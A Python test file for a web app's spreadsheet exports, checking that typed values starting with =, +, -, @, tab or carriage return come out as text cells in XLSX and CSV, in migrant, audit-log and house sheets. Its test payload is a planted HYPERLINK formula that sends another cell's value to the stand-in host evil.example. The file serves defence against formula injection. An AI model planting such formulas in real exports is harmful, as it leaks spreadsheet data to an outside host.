"""Every spreadsheet the app writes keeps what people typed as text: a value a spreadsheet would run as a
formula (=, +, -, @, a tab or a carriage return first) is a string cell showing the typed text, in the one
writer (app/web/spreadsheets.py) and in the exports people can plant one in."""
import csv
import io

import pytest
from openpyxl import load_workbook

from app.web.extensions import db
from app.web.spreadsheets import FORMULA_STARTS, csv_bytes, read_csv_cell, xlsx
from tests import factories as f
from tests.console.signing import sign_in
from tests.residents.helpers import letter_token, migrant, newcomer, register

PLANTED = '=HYPERLINK("http://evil.example/"&E2,"详情")'
TYPED = [PLANTED, "+8613800138000", "-1+2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def cells(data: bytes) -> list[tuple]:
    return [tuple(row) for row in load_workbook(io.BytesIO(data)).active.iter_rows()]


def shown(typed: str) -> str:
    """The text a reader gets back: XML reads a carriage return as a line feed (still text, no formula)."""
    return typed.replace("\r", "\n")


def test_each_formula_start_is_covered():
    assert {text[0] for text in TYPED} == set(FORMULA_STARTS)


@pytest.mark.parametrize("typed", TYPED)
def test_a_typed_formula_is_a_string_cell_showing_the_text(typed):
    [(text, number, share)] = cells(xlsx({"s": [[typed, 7, 0.5]]}))
    assert (text.data_type, text.value, text.quotePrefix) == ("s", shown(typed), True)
    assert (number.data_type, number.value) == ("n", 7) and (share.data_type, share.value) == ("n", 0.5)


def test_plain_text_is_a_string_without_the_quote_prefix():
    [(text,)] = cells(xlsx({"s": [["张三"]]}))
    assert (text.data_type, text.value, text.quotePrefix) == ("s", "张三", False)


@pytest.mark.parametrize("typed", TYPED)
def test_a_typed_formula_in_csv_starts_with_a_quote_taken_off_on_reading(typed):
    [row] = list(csv.reader(io.StringIO(csv_bytes([[typed, 7]]).decode("utf-8-sig"))))
    assert row == ["'" + typed, "7"]
    assert read_csv_cell(row[0]) == typed and read_csv_cell("'quoted") == "'quoted"


def planted_migrant(client, world):
    _, headers = newcomer()
    assert register(client, letter_token(world.house1b), headers, [migrant(PLANTED, 1, is_self=True)],
                    claim_head=True).status_code == 201


def test_a_planted_name_stays_text_in_the_returning_migrants_export_api_and_console(client, world):
    planted_migrant(client, world)
    api = client.get(f"/api/grids/{world.grid1.id}/returning?format=xlsx", headers=f.auth(world.head1))
    sign_in(client, world.head1)
    console = client.get(f"/console/grids/{world.grid1.id}/returning.xlsx")
    for answer in (api, console):
        name = cells(answer.data)[1][2]
        assert (name.data_type, name.value) == ("s", PLANTED)


def test_a_planted_reason_stays_text_in_the_audit_log_export(client, world):
    member, _ = f.resident(world.house1, name="王五")
    revealed = client.post(f"/api/members/{member.id}/reveal", json={"reason": PLANTED}, headers=f.auth(world.head1))
    assert revealed.status_code == 200
    sign_in(client, world.admin_a)
    reason = cells(client.get("/console/admin/audit.xlsx?action=reveal").data)[1][6]
    assert (reason.data_type, reason.value) == ("s", PLANTED)


def test_a_planted_address_goes_out_and_back_in_the_house_sheet_unchanged(client, world):
    world.house1.address = "-1层 " + PLANTED
    db.session.commit()
    admin = f.auth(world.admin_a)
    exported = client.get("/api/admin/houses/export?format=csv", headers=admin).data
    assert f"'-1层 {PLANTED}".replace('"', '""') in exported.decode("utf-8-sig")
    again = client.post("/api/admin/houses/import", headers=admin,
                        data={"file": (io.BytesIO(exported), "houses.csv")}).json
    assert (again["created"], again["updated"]) == (0, 0)
    book = client.get("/api/admin/houses/export?format=xlsx", headers=admin).data
    address = next(row[5] for row in cells(book) if row[4].value == world.house1.door)
    assert (address.data_type, address.value) == ("s", world.house1.address)
